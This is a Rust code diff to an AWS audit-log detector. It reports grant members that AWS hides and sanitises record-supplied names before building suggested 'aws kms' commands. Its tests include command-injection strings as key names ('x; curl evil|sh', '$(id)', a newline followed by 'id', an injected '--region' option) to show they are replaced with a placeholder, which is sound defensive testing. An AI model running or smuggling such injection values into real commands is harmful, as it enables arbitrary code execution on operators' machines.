@@ -3,8 +3,10 @@
 //! All other rules about policies and grants are blind to what such a call did. What must stay true:
 //! a call that failed set nothing, so it gives no finding.
 
+use std::borrow::Cow;
+
 use crate::detect::native::shared::grant::Grant;
-use crate::detect::native::shared::policy_document::{is_policy_hidden, list, unread};
+use crate::detect::native::shared::policy_document::{is_policy_hidden, key_of, list, unread};
 use crate::detect::native::{Detector, Found};
 use crate::model::level::Level;
 use crate::record::event::Event;
@@ -34,15 +36,22 @@ impl Detector for PolicyUnreadable {
             return found(why, unread);
         }
         let grant = Grant::of(event, view)?;
-        if !grant.hidden().is_empty() {
-            return Some(hidden(event, view, "a part of a grant", &grant.hidden().join(", ")));
+        let (unread, of_aws) = (grant.unread(), grant.hidden());
+        match (unread.is_empty(), of_aws.is_empty()) {
+            (true, true) => None,
+            (true, false) => Some(hidden(event, view, "a part of a grant", &of_aws.join(", "))),
+            (false, _) => {
+                let why = "the call made a grant, and nobody can see here what all of it says";
+                let of_aws = of_aws.into_iter().map(hidden_member);
+                found(why, unread.into_iter().chain(of_aws).collect())
+            }
         }
-        let unread = grant.unread();
-        if unread.is_empty() {
-            return None;
-        }
-        found("the call made a grant, and nobody can see here what all of it says", unread)
     }
+}
+
+/// What is said of a member that AWS hides.
+fn hidden_member(member: impl std::fmt::Display) -> String {
+    format!("{member}: hidden by AWS")
 }
 
 /// A finding about what AWS hides: nothing is wrong with the record, and nobody can see here what it is.
@@ -50,8 +59,8 @@ fn hidden(event: &Event<'_>, view: &View<'_>, what: &str, member: &str) -> Found
     let why = format!(
         "AWS hides {what} in this record (it writes {HIDDEN} instead), so no rule can judge it"
     );
-    let unread = format!("{member}: hidden by AWS");
-    let found = Found::at(Level::Medium).with("why", why).with("unread", list([unread]));
+    let unread = list([hidden_member(member)]);
+    let found = Found::at(Level::Medium).with("why", why).with("unread", unread);
     match see(event, view) {
         Some(call) => found.with("see", call),
         None => found,
@@ -61,14 +70,10 @@ fn hidden(event: &Event<'_>, view: &View<'_>, what: &str, member: &str) -> Found
 /// The call that shows what is in force now, if one does. Names come from the record: what no shell would
 /// take as one word is left out.
 fn see(event: &Event<'_>, view: &View<'_>) -> Option<String> {
-    let asked = |name: &str| {
-        let text = event.text_at(&["requestParameters", name])?;
-        let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_.:/=+@,-".contains(&byte);
-        let fits = text.len() <= 256 && !text.starts_with('-') && text.bytes().all(plain);
-        fits.then(|| text.into_owned())
+    let key = || word(key_of(event, view), "KEY");
+    let of = |name: &str, stand_in: &str| {
+        word(event.text_at(&["requestParameters", name]).map(Cow::into_owned), stand_in)
     };
-    let key = || view.key().map_or_else(|| "KEY".to_owned(), |key| key.arn);
-    let of = |name: &str, stand_in: &str| asked(name).unwrap_or_else(|| stand_in.to_owned());
     let inline = |kind: &str, member: &str| {
         let (holder, policy) = (of(member, "NAME"), of("policyName", "POLICY"));
         format!("aws iam get-{kind}-policy --{kind}-name {holder} --policy-name {policy}")
@@ -87,6 +92,15 @@ fn see(event: &Event<'_>, view: &View<'_>) -> Option<String> {
         }
         _ => return None,
     })
+}
+
+/// A name from a record as a word of a command; what stands in for it, if a shell would take it for more.
+fn word(name: Option<String>, stand_in: &str) -> String {
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_.:/=+@,-".contains(&byte);
+    let fits = |name: &String| {
+        (1..=256).contains(&name.len()) && !name.starts_with('-') && name.bytes().all(plain)
+    };
+    name.filter(fits).unwrap_or_else(|| stand_in.to_owned())
 }
 
 #[cfg(test)]
@@ -185,6 +199,63 @@ mod tests {
         assert!(told_of(&quoted).is_none(), "a text that only names it");
     }
 
+    #[test]
+    fn no_command_runs_what_a_record_calls_a_key() {
+        for key in [
+            "arn:aws:kms:eu-central-1:111122223333:key/x; curl evil|sh",
+            "arn:aws:kms:eu-central-1:111122223333:key/$(id)",
+            "arn:aws:kms:eu-central-1:111122223333:key/x\nid",
+            "arn:aws:kms:eu-central-1:111122223333:key/x --region=other",
+        ] {
+            let grant = json!({"keyId": key, "constraints": HIDDEN});
+            for (name, request, see) in [
+                (
+                    "PutKeyPolicy",
+                    json!({"keyId": key, "policy": HIDDEN}),
+                    "aws kms get-key-policy --policy-name default --key-id KEY",
+                ),
+                ("CreateGrant", grant, "aws kms list-grants --key-id KEY"),
+            ] {
+                let record = call("2026-11-02T10:00:00Z", "alice", name, key, &request);
+                assert_eq!(told_of(&record).unwrap().details["see"], see, "{key}");
+            }
+        }
+    }
+
+    #[test]
+    fn the_policy_of_a_replica_is_seen_at_the_replica() {
+        let replica = KEY.replace("eu-central-1", "us-east-1");
+        let mut record = kms("ReplicateKey", &json!({"keyId": KEY, "policy": HIDDEN}));
+        record["responseElements"] = json!({"replicaKeyMetadata": {"arn": replica}});
+        let see = format!("aws kms get-key-policy --policy-name default --key-id {replica}");
+        assert_eq!(told_of(&record).unwrap().details["see"], json!(see));
+    }
+
+    #[test]
+    fn what_aws_hides_within_a_grant_is_told() {
+        let constraints = |context: Value| json!({"constraints": context});
+        let subset = "constraints.encryptionContextSubset";
+        for (request, member) in [
+            (constraints(json!({"encryptionContextSubset": HIDDEN})), subset),
+            (constraints(json!({"encryptionContextSubset": {"a": "b", "tenant": HIDDEN}})), subset),
+            (constraints(json!({"sourceArn": HIDDEN})), "constraints.sourceArn"),
+            (constraints(json!({"other": HIDDEN})), "constraints"),
+            (json!({"retiringPrincipal": HIDDEN}), "retiringPrincipal"),
+            (json!({"operations": ["Decrypt", HIDDEN]}), "operations"),
+        ] {
+            let found =
+                told_of(&kms("CreateGrant", &request)).unwrap_or_else(|| panic!("{request}"));
+            assert_eq!(found.level, Level::Medium);
+            assert_eq!(found.details["unread"], json!([format!("{member}: hidden by AWS")]));
+        }
+        // What is broken is told beside what is hidden.
+        let both = json!({"operations": "Decrypt", "retiringPrincipal": HIDDEN});
+        let both = told_of(&kms("CreateGrant", &both)).unwrap();
+        assert_eq!(both.level, Level::High);
+        let unread = ["operations is not a list of text", "retiringPrincipal: hidden by AWS"];
+        assert_eq!(both.details["unread"], json!(unread));
+    }
+
     fn told_of(record: &Value) -> Option<Found> {
         found(&PolicyUnreadable, record)
     }
@@ -216,6 +287,7 @@ mod tests {
             (json!({"operations": "Decrypt"}), Some("operations is not a list of text")),
             (json!({"operations": [["Decrypt"]]}), Some("operations is not a list of text")),
             (json!({"constraints": "{}"}), Some("constraints is not an object")),
+            (json!({"retiringPrincipal": {}}), Some("retiringPrincipal is not text")),
         ] {
             let record = kms("CreateGrant", &request);
             assert_eq!(told(&record).as_deref(), unread, "{request}");
